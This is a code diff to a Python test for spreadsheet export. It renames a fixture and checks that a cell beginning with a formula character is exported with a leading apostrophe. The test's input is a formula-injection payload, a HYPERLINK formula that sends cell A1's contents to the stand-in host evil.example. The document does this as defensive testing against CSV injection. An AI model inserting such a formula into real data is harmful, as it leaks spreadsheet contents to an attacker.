@@ -319,10 +319,12 @@ def _exported(caller: Caller, **query: Any) -> list[dict[str, str]]:
 
 
 @pytest.mark.parametrize("start", FORMULA_STARTS.values(), ids=FORMULA_STARTS.keys())
-def test_cells_a_spreadsheet_would_run_are_exported_as_text(world: World, start: str) -> None:
-    owner = world.caller("viewer")
+def test_cells_a_spreadsheet_would_run_are_exported_as_text(
+    store_world: World, start: str
+) -> None:
+    owner = store_world.caller("viewer")
     formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
-    record = world.record(owner.id, description=formula)
+    record = store_world.record(owner.id, description=formula)
     assert record["description"] == formula
     rows = _exported(owner)
     assert [row["description"] for row in rows] == ["'" + formula]
